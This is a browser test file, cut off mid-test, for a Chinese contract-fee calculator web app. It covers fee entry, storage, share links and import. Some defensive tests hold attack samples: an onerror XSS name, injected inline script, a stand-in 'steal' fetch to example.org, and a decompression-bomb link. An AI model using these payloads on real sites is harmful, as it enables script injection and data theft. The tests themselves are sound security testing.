// Browser tests: serves dist/ (build it first: trunk build --release --offline), drives Debian's
// Chromium headless through playwright-core, and closes with 'N passed, M failed'.
//
// To add a test, append { name, run } to `tests`. Each run gets a fresh browser context and page
// ({ page, context, url, errors, newPage }); it throws to fail. `newPage()` opens one more fresh
// context (a second browser profile: its own local storage) whose errors land in the same list.
// After the run returns, any console error, page error, failed request or dialog recorded in
// `errors` fails it too.
//
// `node tests/browser/run.mjs WORD` runs only the tests whose name contains WORD.
import zlib from 'node:zlib';
import { serveDir, launchBrowser, collectErrors, requireDist } from './lib.mjs';

const TEST_TIMEOUT_MS = 30_000;

// The starter scenario (src/samples.rs): 2025, monthly, 45,000 + 5,000 a month, 12 months.
const STARTER_NAME = '售后外包运营合同';
const STARTER_TOTAL = '¥600,000.00';

const TOTAL = '[data-testid=contract-total]';
const PENALTY = '[data-testid=late-penalty]';
const NAME = '[data-testid=scenario-name]';
const WORKING_KEY = 'contract-calc/v1/working';
const SAVED_PREFIX = 'contract-calc/v1/saved/';
const LANG_KEY = 'contract-calc/v1/lang';
const QUARANTINE_PREFIX = 'contract-calc/quarantine/';
const FEE0 = 'fees.components[0].amount';
const FEE1 = 'fees.components[1].amount';

// ---------------------------------------------------------------------------------------------
// Helpers

function fail(msg) {
  throw new Error(msg);
}

function assert(cond, msg) {
  if (!cond) fail(msg);
}

function assertEq(got, want, what) {
  if (got !== want) fail(`${what}: expected ${JSON.stringify(want)}, got ${JSON.stringify(got)}`);
}

/** Waits until `selector` exists and its text is exactly `expected`. */
async function expectText(page, selector, expected) {
  const el = page.locator(selector).first();
  await el.waitFor({ state: 'visible' });
  try {
    await page.waitForFunction(
      ([sel, want]) => document.querySelector(sel)?.textContent?.trim() === want,
      [selector, expected],
      { timeout: 5_000 },
    );
  } catch {
    const got = (await el.textContent())?.trim();
    throw new Error(`${selector}: expected text ${JSON.stringify(expected)}, got ${JSON.stringify(got)}`);
  }
}

/** The trimmed text of the first element matching `selector`. */
async function textOf(page, selector) {
  return (await page.locator(selector).first().textContent())?.trim();
}

/** The text input bound to the form field at JSON path `path`. */
function field(page, path) {
  return page.locator(`[data-path="${path}"]`);
}

/** Opens the app at `url` and waits until the contract total is shown. */
async function openApp(page, url) {
  await page.goto(url);
  await page.locator(TOTAL).waitFor({ state: 'visible' });
}

/** A copy of the page's local storage as a plain object. */
function storage(page) {
  return page.evaluate(() => {
    const out = {};
    for (let i = 0; i < localStorage.length; i++) {
      const k = localStorage.key(i);
      out[k] = localStorage.getItem(k);
    }
    return out;
  });
}

/** Waits until `pred(localStorage as an object)` holds; `what` names it in the failure. */
async function waitForStorage(page, pred, what) {
  const deadline = Date.now() + 5_000;
  let last;
  while (Date.now() < deadline) {
    last = await storage(page);
    if (pred(last)) return last;
    await page.waitForTimeout(50);
  }
  fail(`local storage never showed ${what}; it holds ${JSON.stringify(last).slice(0, 600)}`);
}

/** Banners whose text contains `text`. */
function bannerWith(page, text) {
  return page.getByTestId('banner').filter({ hasText: text });
}

async function expectBanner(page, text) {
  const b = bannerWith(page, text);
  try {
    await b.first().waitFor({ state: 'visible', timeout: 5_000 });
  } catch {
    const all = await page.getByTestId('banner').allTextContents();
    fail(`no banner containing ${JSON.stringify(text)}; banners: ${JSON.stringify(all)}`);
  }
  return b.first();
}

/** The text of a finished download. */
async function downloadText(download) {
  const stream = await download.createReadStream();
  const chunks = [];
  for await (const c of stream) chunks.push(c);
  return Buffer.concat(chunks).toString('utf8');
}

/** Clicks `locator` and returns the download it starts. */
async function clickForDownload(page, locator) {
  const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 5_000 }), locator.click()]);
  return dl;
}

/** A share fragment (`s1.` + base64url(raw deflate)) of any text, valid scenario or not. */
function fragmentOf(text) {
  return 's1.' + zlib.deflateRawSync(Buffer.from(text, 'utf8'), { level: 9 }).toString('base64url');
}

/** Saves the current form under `name` through the saved-scenarios panel (opening it if closed). */
async function saveAs(page, name) {
  const panel = page.getByTestId('saved-panel');
  if (!(await panel.isVisible())) await page.getByTestId('toggle-list').click();
  await page.getByTestId('save-name').fill(name);
  await page.getByTestId('save-as').click();
  await page.getByTestId('saved-list').locator('li', { hasText: name }).first().waitFor();
}

/** Names in the saved-scenarios list, top to bottom. */
function savedNames(page) {
  return page.locator('[data-testid=saved-list] .saved-name').allTextContents();
}

// ---------------------------------------------------------------------------------------------
// Tests

const tests = [
  {
    name: 'the page loads the wasm app and shows the example contract total',
    async run({ page, url }) {
      const wasm = page.waitForResponse((r) => r.url().endsWith('.wasm'));
      await page.goto(url);
      const res = await wasm;
      const type = res.headers()['content-type'];
      if (type !== 'application/wasm') throw new Error(`.wasm served as ${type}`);
      await expectText(page, '[data-testid=contract-total]', '¥600,000.00');
    },
  },
  {
    name: 'the page has the product heading and the zh-CN language',
    async run({ page, url }) {
      await page.goto(url);
      await expectText(page, 'h1', '售后服务外包合同计算器');
      const lang = await page.getAttribute('html', 'lang');
      if (lang !== 'zh-CN') throw new Error(`<html lang> is ${JSON.stringify(lang)}`);
    },
  },
  {
    name: 'typing a fee as 5万 updates the total without pressing any button',
    async run({ page, url }) {
      await openApp(page, url);
      await expectText(page, TOTAL, STARTER_TOTAL);
      const input = field(page, FEE0);
      assertEq(await input.inputValue(), '45000.00', 'the starter base fee');
      await input.fill('');
      await input.pressSequentially('5万', { delay: 20 });
      assertEq(await input.inputValue(), '5万', 'the fee as typed is kept');
      await expectText(page, TOTAL, '¥660,000.00');
      // The field echoes what 5万 means, and the per-cycle sum follows.
      const echo = page.locator(`#f-fees-components-0--amount ~ .echo`);
      assertEq((await echo.textContent())?.trim(), '= ¥50,000.00', 'the echo of 5万');
      await expectText(page, '.sum strong', '¥55,000.00');
      assertEq(await page.getByTestId('stale').count(), 0, 'stale notes on a valid form');
    },
  },
  {
    name: 'an invalid fee shows its message beside the field and keeps the last figures, marked stale',
    async run({ page, url }) {
      await openApp(page, url);
      await field(page, FEE0).fill('5万');
      await expectText(page, TOTAL, '¥660,000.00');
      await field(page, FEE0).fill('abc');
      const err = page.locator('#f-fees-components-0--amount-err');
      await page.waitForFunction(
        () => document.querySelector('#f-fees-components-0--amount-err')?.textContent?.trim() !== '',
      );
      const msg = (await err.textContent()).trim();
      assert(msg.includes('“abc”') && msg.includes('不是金额'),
        `the field's error should quote "abc" and say it is not an amount, got ${JSON.stringify(msg)}`);
      assertEq(await field(page, FEE0).getAttribute('aria-invalid'), 'true', 'aria-invalid of the field');
      const describedBy = await field(page, FEE0).getAttribute('aria-describedby');
      assert(describedBy.split(/\s+/).includes('f-fees-components-0--amount-err'),
        `the field's aria-describedby should name its error, got ${JSON.stringify(describedBy)}`);
      const stale = page.getByTestId('stale');
      await stale.waitFor({ state: 'visible' });
      assert((await stale.textContent()).includes('1 处'), `stale note: ${await stale.textContent()}`);
      // The last valid total (with 5万), not the starter's.
      await expectText(page, TOTAL, '¥660,000.00');
      assertEq(await field(page, FEE0).inputValue(), 'abc', 'what the user typed is kept');
      // Fixing it clears the message and the stale mark.
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      await stale.waitFor({ state: 'detached' });
      assertEq((await err.textContent()).trim(), '', 'the error after fixing the field');
    },
  },
  {
    name: 'a reload keeps the scenario being edited',
    async run({ page, url }) {
      await openApp(page, url);
      await field(page, 'name').fill('重新加载测试');
      await field(page, FEE1).fill('1万');
      await expectText(page, TOTAL, '¥660,000.00');
      await expectText(page, NAME, '重新加载测试');
      await page.reload();
      await page.locator(TOTAL).waitFor();
      await expectText(page, TOTAL, '¥660,000.00');
      await expectText(page, NAME, '重新加载测试');
      assertEq(await field(page, 'name').inputValue(), '重新加载测试', 'the name field after reload');
      const store = await storage(page);
      assert(store[WORKING_KEY]?.includes('重新加载测试'), 'the working scenario is stored');
    },
  },
  {
    name: 'a share link opened in a new browser shows the same figures and writes nothing until saved',
    async run({ page, context, url, newPage }) {
      await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(url).origin });
      await openApp(page, url);
      await field(page, 'name').fill('分享测试');
      await field(page, 'as_of').fill('2025-09-30');
      await field(page, FEE1).fill('8000');
      await expectText(page, TOTAL, '¥636,000.00');
      await expectText(page, PENALTY, '¥9,321.00');
      await page.getByTestId('copy-link').click();
      const linkText = page.getByTestId('link-text');
      await linkText.waitFor({ state: 'visible' });
      const link = await linkText.inputValue();
      assert(link.startsWith(`${url}#s1.`), `the link should be ${url}#s1.…, got ${link.slice(0, 80)}`);
      await page.waitForFunction(() => !document.querySelector('[data-testid=share-panel] p')?.textContent?.includes('…'));
      const note = await textOf(page, '[data-testid=share-panel] p');
      assert(note.startsWith('链接已复制'), `the share panel should say the link was copied, got ${JSON.stringify(note)}`);
      assertEq(await page.evaluate(() => navigator.clipboard.readText()), link, 'the clipboard');
      assert((await page.getByTestId('qr').locator('svg').count()) === 1, 'the share panel shows a QR code');

      // A new browser profile with nothing stored.
      const fresh = await newPage();
      await fresh.goto(link);
      await expectText(fresh, TOTAL, '¥636,000.00');
      await expectText(fresh, PENALTY, '¥9,321.00');
      await expectText(fresh, NAME, '分享测试');
      const banner = await expectBanner(fresh, '分享链接打开的方案');
      await banner.getByTestId('save-link').waitFor({ state: 'visible' });
      await expectText(fresh, '[data-testid=save-state]', '来自链接，未保存');
      // Editing the linked scenario writes nothing either.
      await field(fresh, FEE1).fill('9000');
      await expectText(fresh, TOTAL, '¥648,000.00');
      await field(fresh, FEE1).fill('8000');
      await expectText(fresh, TOTAL, '¥636,000.00');
      await fresh.waitForTimeout(300);
      let store = await storage(fresh);
      assert(!(WORKING_KEY in store), `the link wrote ${WORKING_KEY} before the user saved: ${store[WORKING_KEY]?.slice(0, 120)}`);
      assertEq(Object.keys(store).filter((k) => k.startsWith(SAVED_PREFIX)).length, 0, 'saved scenarios before saving');
      // Saving keeps it, drops the fragment and the banner.
      await banner.getByTestId('save-link').click();
      store = await waitForStorage(fresh, (s) => s[WORKING_KEY]?.includes('分享测试'), 'the saved link scenario');
      const saved = Object.keys(store).filter((k) => k.startsWith(SAVED_PREFIX));
      assertEq(saved.length, 1, 'saved scenarios after saving');
      assert(JSON.parse(store[saved[0]]).name === '分享测试', `saved entry: ${store[saved[0]].slice(0, 200)}`);
      assertEq(await fresh.evaluate(() => location.hash), '', 'the address fragment after saving');
      await bannerWith(fresh, '分享链接打开的方案').waitFor({ state: 'detached' });
      await expectText(fresh, '[data-testid=save-state]', '已保存');
      await fresh.reload();
      await expectText(fresh, TOTAL, '¥636,000.00');
      await expectText(fresh, NAME, '分享测试');

      // A profile that already had its own working scenario keeps it, byte for byte.
      const mine = await newPage();
      await openApp(mine, url);
      await field(mine, 'name').fill('我本机的方案');
      const before = (await waitForStorage(mine, (s) => s[WORKING_KEY]?.includes('我本机的方案'), 'my own scenario'))[WORKING_KEY];
      await mine.goto('about:blank');
      await mine.goto(link);
      await expectText(mine, NAME, '分享测试');
      await expectText(mine, TOTAL, '¥636,000.00');
      await expectBanner(mine, '不会被覆盖');
      await field(mine, FEE0).fill('1');
      await expectText(mine, TOTAL, '¥96,012.00');
      await mine.waitForTimeout(300);
      assertEq((await storage(mine))[WORKING_KEY], before, `${WORKING_KEY} after opening a link and editing it`);
      // "Discard, back to mine" brings the stored one back.
      await bannerWith(mine, '不会被覆盖').getByRole('button', { name: '放弃，回到我的方案' }).click();
      await expectText(mine, NAME, '我本机的方案');
      await expectText(mine, TOTAL, STARTER_TOTAL);
    },
  },
  {
    name: 'edits to a linked scenario survive a reload of that tab and still write nothing stored',
    async run({ page, url, newPage }) {
      await openApp(page, url);
      await field(page, 'name').fill('链接编辑');
      await field(page, 'as_of').fill('2025-09-30');
      await page.getByTestId('copy-link').click();
      const link = await page.getByTestId('link-text').inputValue();
      const fresh = await newPage();
      await fresh.goto(link);
      await expectText(fresh, NAME, '链接编辑');
      // ¥45,000 + ¥5,000 a month → ¥40,000 + ¥5,000: the 2025 total drops to ¥540,000.
      await field(fresh, FEE0).fill('40000');
      await expectText(fresh, TOTAL, '¥540,000.00');
      await fresh.waitForTimeout(400);
      await fresh.reload();
      await expectText(fresh, TOTAL, '¥540,000.00');
      await expectBanner(fresh, '分享链接打开的方案');
      const store = await storage(fresh);
      assert(!(WORKING_KEY in store), `reloading a linked scenario wrote ${WORKING_KEY}`);
      // Discarding goes back to this browser's own (starter) scenario and forgets the edits.
      await bannerWith(fresh, '分享链接打开的方案').getByRole('button', { name: '放弃，回到我的方案' }).click();
      await expectText(fresh, NAME, STARTER_NAME);
      assertEq(await fresh.evaluate(() => sessionStorage.getItem('contract-calc/v1/link-draft')), null, 'the tab draft after discarding');
    },
  },
  {
    name: 'a contract into 2027 computes on the provisional calendar; a date before 2010 is named at the calendar',
    async run({ page, url }) {
      await openApp(page, url);
      // Service to the end of 2026: December's fee falls due in January 2027, after the last
      // published holiday notice. The 放假办法 gives 2027's rest days (spec §10): the figures
      // compute, 24 months at ¥50,000 = ¥1,200,000.
      await field(page, 'contract.end').fill('2026-12-31');
      await expectText(page, TOTAL, '¥1,200,000.00');
      assertEq(await page.getByTestId('stale').count(), 0, 'no stale note');
      const err = page.locator('#f-payment-calendar-err');
      assertEq((await err.textContent()).trim(), '', 'no calendar error');
      // From November 2009 the first fee falls due in December 2009, before the table (2010).
      await field(page, 'contract.start').fill('2009-11-01');
      await page.waitForFunction(() => document.querySelector('#f-payment-calendar-err')?.textContent?.includes('2009-12-10'));
      assert((await err.textContent()).includes('2010-01-01'), `calendar error: ${await err.textContent()}`);
      await page.getByTestId('stale').waitFor({ state: 'visible' });
      const link = page.getByTestId('stale').locator('a[href="#f-payment-calendar"]');
      assertEq(await link.count(), 1, 'links from the stale note to the calendar field');
      // Weekends only: 206 months (2009-11 to 2026-12) at ¥50,000 = ¥10,300,000.
      await page.selectOption('#f-payment-calendar', { label: '仅周末休息' });
      await expectText(page, TOTAL, '¥10,300,000.00');
      await page.getByTestId('stale').waitFor({ state: 'detached' });
      assertEq((await err.textContent()).trim(), '', 'the calendar error after switching');
    },
  },
  {
    name: 'a breakdown opens from the keyboard and keeps the focus on its heading',
    async run({ page, url }) {
      await openApp(page, url);
      const summary = page.locator('[data-card=contract-total] > summary');
      await summary.focus();
      await page.keyboard.press('Enter');
      await page.getByTestId('cycle-table').waitFor({ state: 'visible' });
      // 2025 in twelve monthly rows.
      assertEq(await page.locator('[data-testid=cycle-table] tbody tr').count(), 12, 'cycle rows');
      await page.waitForFunction(() => document.activeElement?.parentElement?.dataset?.card === 'contract-total');
      await page.keyboard.press('Enter');
      await page.getByTestId('cycle-table').waitFor({ state: 'detached' });
      // Typing with the table open updates it in place.
      await summary.click();
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      await expectText(page, '[data-testid=cycle-table] tbody tr:first-child td:nth-child(2)', '¥45,000.00');
    },
  },
  {
    name: 'leaving a linked scenario with New keeps it as a draft instead of dropping the edits',
    async run({ page, url, newPage }) {
      await openApp(page, url);
      await field(page, 'name').fill('对方方案');
      await page.getByTestId('copy-link').click();
      const link = await page.getByTestId('link-text').inputValue();
      const fresh = await newPage();
      await fresh.goto(link);
      await expectText(fresh, NAME, '对方方案');
      await field(fresh, FEE0).fill('40000');
      await expectText(fresh, TOTAL, '¥540,000.00');
      await fresh.getByTestId('new-scenario').click();
      await expectText(fresh, NAME, STARTER_NAME);
      await fresh.getByTestId('toggle-list').click();
      assertEq(JSON.stringify(await savedNames(fresh)), JSON.stringify(['对方方案（草稿）']), 'drafts');
      await fresh.locator('[data-testid=saved-list] li', { hasText: '对方方案（草稿）' }).getByTestId('open-saved').click();
      await expectText(fresh, TOTAL, '¥540,000.00');
      assertEq(await fresh.evaluate(() => location.hash), '', 'the link fragment after leaving it');
    },
  },
  {
    name: 'corrupt local storage is set aside byte for byte, offered for download, and the app starts',
    async run({ page, url }) {
      const raw = '{"format":';
      await page.addInitScript(([key, value]) => {
        if (!sessionStorage.getItem('seeded')) {
          localStorage.setItem(key, value);
          sessionStorage.setItem('seeded', '1');
        }
      }, [WORKING_KEY, raw]);
      await openApp(page, url);
      await expectText(page, TOTAL, STARTER_TOTAL);
      await expectText(page, NAME, STARTER_NAME);
      const banner = await expectBanner(page, '无法读取');
      const store = await storage(page);
      const keys = Object.keys(store).filter((k) => k.startsWith(QUARANTINE_PREFIX));
      assertEq(keys.length, 1, `quarantined entries (${JSON.stringify(keys)})`);
      assert(keys[0].startsWith(`${QUARANTINE_PREFIX}${WORKING_KEY}@`), `quarantine key ${keys[0]}`);
      assertEq(store[keys[0]], raw, 'the quarantined text');
      const dl = await clickForDownload(page, banner.getByTestId('download-quarantined'));
      assertEq(await downloadText(dl), raw, 'the downloaded text');
      assert(dl.suggestedFilename().endsWith('.json'), `download name ${dl.suggestedFilename()}`);
      // The app works on: a change is computed and autosaved over the (now free) working key.
      await field(page, FEE0).fill('55000');
      await expectText(page, TOTAL, '¥720,000.00');
      await waitForStorage(page, (s) => s[WORKING_KEY]?.includes('55000'), 'the new working scenario');
      assertEq((await storage(page))[keys[0]], raw, 'the quarantined text after autosave');
      // The next start does not report it again as new, and does not lose it.
      await page.reload();
      await expectText(page, TOTAL, '¥720,000.00');
      assertEq((await storage(page))[keys[0]], raw, 'the quarantined text after reload');
    },
  },
  {
    name: 'a scenario named like HTML renders as text and runs nothing',
    async run({ page, url }) {
      const evil = '<img src=x onerror=alert(1)>';
      const requestsToX = [];
      page.on('request', (r) => {
        if (new URL(r.url()).pathname.endsWith('/x')) requestsToX.push(r.url());
      });
      await openApp(page, url);
      await field(page, 'name').fill(evil);
      await expectText(page, NAME, evil);
      await saveAs(page, evil);
      assert((await savedNames(page)).includes(evil), `saved list: ${JSON.stringify(await savedNames(page))}`);
      await page.getByTestId('copy-link').click();
      await page.getByTestId('link-text').waitFor();
      await page.getByTestId('open-compare').click();
      await page.locator('.picker').waitFor();
      assert((await page.locator('.picker').textContent()).includes(evil), 'the compare picker shows the name as text');
      await page.waitForTimeout(200);
      const imgs = await page.evaluate(() =>
        [...document.querySelectorAll('img, [onerror]')].map((e) => e.outerHTML));
      assertEq(imgs.length, 0, `img / onerror elements in the page (${JSON.stringify(imgs)})`);
      assertEq(requestsToX.length, 0, `requests for the image x (${requestsToX})`);
    },
  },
  {
    name: 'under its Content-Security-Policy the page refuses injected inline script and other origins',
    async run({ page, url, errors }) {
      await openApp(page, url);
      // The policy ships in the page itself, strict: no inline script, no other origin.
      const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
      const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
      assertEq(JSON.stringify(directives['script-src']), JSON.stringify(["'self'", "'wasm-unsafe-eval'"]), 'script-src');
      assertEq(JSON.stringify(directives['default-src']), JSON.stringify(["'none'"]), 'default-src');
      assertEq(JSON.stringify(directives['object-src']), JSON.stringify(["'none'"]), 'object-src');
      assertEq(JSON.stringify(directives['base-uri']), JSON.stringify(["'none'"]), 'base-uri');
      assert(!/unsafe-inline|'unsafe-eval'|https?:|\*|data:|blob:/.test(csp), `a loose source in the policy: ${csp}`);
      // The app itself runs no inline script: every <script> is a file of this origin.
      const inline = await page.evaluate(() => [...document.scripts].filter((s) => !s.src).length);
      assertEq(inline, 0, 'inline <script> elements in the page');

      // An attacker's markup that reached the page: an inline <script>, an inline event
      // handler, and a request to another origin. None of them runs or leaves the page.
      const outcome = await page.evaluate(async () => {
        const violations = [];
        document.addEventListener('securitypolicyviolation', (e) =>
          violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
        const s = document.createElement('script');
        s.textContent = 'window.__injected = true;';
        document.body.append(s);
        const d = document.createElement('div');
        d.setAttribute('onclick', 'window.__clicked = true;');
        document.body.append(d);
        d.click();
        const remote = await fetch('https://example.org/steal?data=1').then(() => 'sent', () => 'blocked');
        await new Promise((r) => setTimeout(r, 100));
        return { injected: window.__injected === true, clicked: window.__clicked === true, remote, violations };
      });
      assertEq(outcome.injected, false, 'the injected inline script ran');
      assertEq(outcome.clicked, false, 'the injected inline handler ran');
      assertEq(outcome.remote, 'blocked', 'the request to another origin');
      for (const v of ['script-src-elem inline', 'script-src-attr inline', 'connect-src https://example.org/steal?data=1']) {
        assert(outcome.violations.includes(v), `no securitypolicyviolation "${v}" in ${JSON.stringify(outcome.violations)}`);
      }
      // Chromium reports each refusal on the console too (the fetch twice): expected here, and
      // only here.
      const refusals = (e) => /^console error: .*violates (the following|the document's) Content Security Policy/.test(e);
      const deadline = Date.now() + 2_000;
      while (errors.filter(refusals).length < 4 && Date.now() < deadline) await page.waitForTimeout(50);
      const unexpected = errors.filter((e) => !refusals(e));
      errors.length = 0;
      errors.push(...unexpected);
      // The app works on.
      await field(page, FEE0).fill('5万');
      await expectText(page, TOTAL, '¥660,000.00');
    },
  },
  {
    name: 'the comparison highlights what differs between two saved scenarios',
    async run({ page, url }) {
      await openApp(page, url);
      await saveAs(page, '方案A');
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      await saveAs(page, '方案B');
      await page.getByTestId('open-compare').click();
      const picks = page.getByTestId('compare-pick');
      await picks.first().waitFor();
      assertEq(await picks.count(), 2, 'saved scenarios offered for comparison');
      const pickFor = (name) => page.locator('.picker label', { hasText: name }).locator('input');
      await pickFor('方案A').check();
      await pickFor('方案B').check();
      const current = page.locator('.picker label', { hasText: '当前方案' }).locator('input');
      if (await current.isChecked()) await current.uncheck();
      const table = page.getByTestId('comparison');
      await table.waitFor();
      const heads = (await table.locator('thead th').allTextContents()).map((t) => t.trim());
      assertEq(JSON.stringify(heads.slice(1)), JSON.stringify(['方案A', '方案B']), 'comparison columns');
      const row = async (key) => {
        const tr = table.locator(`tr[data-key=${key}]`);
        const cells = (await tr.locator('td').allTextContents()).map((t) => t.trim());
        const differs = await tr.evaluate((e) => e.classList.contains('differs'));
        return { cells, differs };
      };
      const fee = await row('cycle_fee');
      assertEq(JSON.stringify(fee.cells), JSON.stringify(['¥50,000.00', '¥45,000.00']), 'fee per cycle (A, B)');
      assertEq(fee.differs, true, 'fee per cycle highlighted');
      const total = await row('contract_total');
      assertEq(JSON.stringify(total.cells), JSON.stringify(['¥600,000.00', '¥540,000.00']), 'contract total (A, B)');
      assertEq(total.differs, true, 'contract total highlighted');
      const cal = await row('calendar');
      assertEq(cal.cells[0], cal.cells[1], 'calendar cells equal');
      assertEq(cal.differs, false, 'calendar highlighted');
    },
  },
  {
    name: 'the language toggle switches to English and is remembered after a reload',
    async run({ page, url }) {
      await openApp(page, url);
      await page.getByTestId('lang-toggle').click();
      await expectText(page, 'h1', 'Service Outsourcing Contract Calculator');
      assertEq(await page.getAttribute('html', 'lang'), 'en', '<html lang>');
      assertEq(await page.title(), 'Service outsourcing contract calculator', 'the title');
      await expectText(page, '[data-testid=lang-toggle]', '中文');
      await waitForStorage(page, (s) => s[LANG_KEY] === 'en', `${LANG_KEY} = en`);
      await page.reload();
      await expectText(page, 'h1', 'Service Outsourcing Contract Calculator');
      assertEq(await page.getAttribute('html', 'lang'), 'en', '<html lang> after reload');
      await expectText(page, TOTAL, STARTER_TOTAL);
      // Field messages follow the language.
      await field(page, FEE0).fill('abc');
      await expectText(page, '#f-fees-components-0--amount-err',
        '“abc” is not an amount: type e.g. 50000, 50,000, 50000.00 or 5万');
    },
  },
  {
    name: 'importing a bad .json file shows a message and changes nothing',
    async run({ page, url }) {
      await openApp(page, url);
      await field(page, 'name').fill('导入前的方案');
      const before = (await waitForStorage(page, (s) => s[WORKING_KEY]?.includes('导入前的方案'), 'the scenario'))[WORKING_KEY];
      const input = page.locator('#f-import');
      await input.setInputFiles({ name: 'broken.json', mimeType: 'application/json', buffer: Buffer.from('{"format": "contract-calc/scenario", "version": 1, "name": "坏') });
      const b1 = await expectBanner(page, '文件未导入，当前内容未改变');
      await input.setInputFiles({
        name: 'wrong.json', mimeType: 'application/json',
        buffer: Buffer.from(JSON.stringify({ format: 'contract-calc/scenario', version: 1, name: '坏文件', as_of: '2025-09-30' })),
      });
      await page.waitForFunction(() => document.querySelectorAll('[data-testid=banner]').length >= 2);
      const texts = await page.getByTestId('banner').allTextContents();
      assertEq(texts.filter((t) => t.includes('文件未导入，当前内容未改变')).length, 2, `import banners ${JSON.stringify(texts)}`);
      assert(texts.some((t) => t.includes('contract')), `the second message should name the missing "contract": ${JSON.stringify(texts)}`);
      await expectText(page, NAME, '导入前的方案');
      await expectText(page, TOTAL, STARTER_TOTAL);
      await page.waitForTimeout(200);
      const store = await storage(page);
      assertEq(store[WORKING_KEY], before, 'the working scenario after the bad imports');
      assertEq(Object.keys(store).filter((k) => k.startsWith(SAVED_PREFIX)).length, 0, 'saved scenarios after the bad imports');
      await b1.getByRole('button', { name: '关闭' }).click();
      assertEq(await page.getByTestId('banner').count(), 1, 'banners after dismissing one');
    },
  },
  {
    name: 'an exported scenario imports in another browser with the same figures',
    async run({ page, url, newPage }) {
      await openApp(page, url);
      await field(page, 'name').fill('导出测试');
      await field(page, FEE1).fill('6000');
      await expectText(page, TOTAL, '¥612,000.00');
      const dl = await clickForDownload(page, page.getByRole('button', { name: '导出', exact: true }));
      const text = await downloadText(dl);
      assertEq(dl.suggestedFilename(), '导出测试.json', 'the export file name');
      assertEq(JSON.parse(text).name, '导出测试', 'the exported name');
      const other = await newPage();
      await openApp(other, url);
      await other.locator('#f-import').setInputFiles({ name: 'x.json', mimeType: 'application/json', buffer: Buffer.from(text) });
      await expectBanner(other, '已导入并保存');
      await expectText(other, NAME, '导出测试');
      await expectText(other, TOTAL, '¥612,000.00');
      await other.getByTestId('toggle-list').click();
      assertEq(JSON.stringify(await savedNames(other)), JSON.stringify(['导出测试']), 'saved list after import');
    },
  },
  {
    name: 'a damaged or hostile share link is reported and the app still computes',
    async run({ page, url, newPage }) {
      await page.goto(`${url}#s1.garbage`);
      await page.locator(TOTAL).waitFor();
      await expectBanner(page, '链接中的方案无法打开');
      await expectBanner(page, '分享链接已损坏');
      await expectText(page, TOTAL, STARTER_TOTAL);
      assertEq(await page.evaluate(() => location.hash), '', 'the fragment after a damaged link');
      await field(page, FEE0).fill('5万');
      await expectText(page, TOTAL, '¥660,000.00');

      // A well-encoded link whose document is not a valid scenario names the problem.
      const p2 = await newPage();
      await p2.goto(`${url}#${fragmentOf(JSON.stringify({ format: 'contract-calc/scenario', version: 1, name: '坏链接', as_of: '2025-09-30' }))}`);
      await p2.locator(TOTAL).waitFor();
      const b = await expectBanner(p2, '分享链接中的方案有误');
      assert((await b.textContent()).includes('contract'), `the message should name "contract": ${await b.textContent()}`);
      await expectText(p2, NAME, STARTER_NAME);
      await expectText(p2, TOTAL, STARTER_TOTAL);
      await waitForStorage(p2, (s) => s[WORKING_KEY]?.includes(STARTER_NAME), 'the starter scenario autosaved');
      assert(!JSON.stringify(await storage(p2)).includes('坏链接'), 'nothing from the bad link is stored');

      // A decompression bomb: a 55,000-character link whose scenario name holds 40 MiB of
      // spaces. Inflation stops past the 1 MiB document limit and the link is called damaged.
      const bomb = fragmentOf(`{"format":"contract-calc/scenario","version":1,"name":"${' '.repeat(40 << 20)}"}`);
      assert(bomb.length < 65_536, `the bomb's link is ${bomb.length} characters`);
      const p3 = await newPage();
      await p3.goto(`${url}#${bomb}`);
      await p3.locator(TOTAL).waitFor();
      await expectBanner(p3, '分享链接已损坏');
      await expectText(p3, TOTAL, STARTER_TOTAL);
      // A link over 65,536 characters is refused by its length, before any decoding.
      const p4 = await newPage();
      await p4.goto(`${url}#s1.${'A'.repeat(65_536)}`);
      await p4.locator(TOTAL).waitFor();
      await expectBanner(p4, '分享链接过长（超过 65,536 个字符）');
      await expectText(p4, TOTAL, STARTER_TOTAL);
    },
  },
  {
    name: 'saved scenarios are renamed, duplicated, listed by last change, and saved only when asked',
    async run({ page, url }) {
      await openApp(page, url);
      await saveAs(page, '甲方案');
      await field(page, FEE0).fill('40000');
      await saveAs(page, '乙方案');
      // The newest change first.
      assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['乙方案', '甲方案']), 'list order');
      const item = (name) => page.locator('[data-testid=saved-list] li', { hasText: name });
      // Rename 甲方案 → 甲方案（修订）: it moves to the top, and storage holds the new name.
      const row = page.locator('[data-testid=saved-list] li').nth((await savedNames(page)).indexOf('甲方案'));
      await row.getByRole('button', { name: '重命名' }).click();
      await row.locator('input[type=text]').fill('甲方案（修订）');
      await row.getByRole('button', { name: '确定' }).click();
      await item('甲方案（修订）').locator('.saved-name').waitFor();
      assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['甲方案（修订）', '乙方案']), 'list after rename');
      // Duplicate 乙方案: a copy named 乙方案 (副本) with the same figures.
      await item('乙方案').first().getByRole('button', { name: '复制' }).click();
      await item('乙方案 (副本)').waitFor();
      await item('乙方案 (副本)').getByTestId('open-saved').click();
      await expectText(page, NAME, '乙方案 (副本)');
      await expectText(page, TOTAL, '¥540,000.00');
      // Editing an opened scenario leaves the saved one as it was until Save is pressed.
      await field(page, FEE0).fill('30000');
      await expectText(page, TOTAL, '¥420,000.00');
      await expectText(page, '[data-testid=save-state]', '有未保存的修改');
      let stored = Object.values(await storage(page)).map((v) => { try { return JSON.parse(v); } catch { return null; } })
        .find((v) => v?.name === '乙方案 (副本)');
      assertEq(stored.scenario.fees.components[0].amount, '40000.00', 'the saved copy before Save');
      await page.getByTestId('save-current').click();
      await expectText(page, '[data-testid=save-state]', '已保存');
      stored = Object.values(await storage(page)).map((v) => { try { return JSON.parse(v); } catch { return null; } })
        .find((v) => v?.name === '乙方案 (副本)');
      assertEq(stored.scenario.fees.components[0].amount, '30000.00', 'the saved copy after Save');
    },
  },
  {
    name: 'New starts from the starter scenario and keeps unsaved work as a draft',
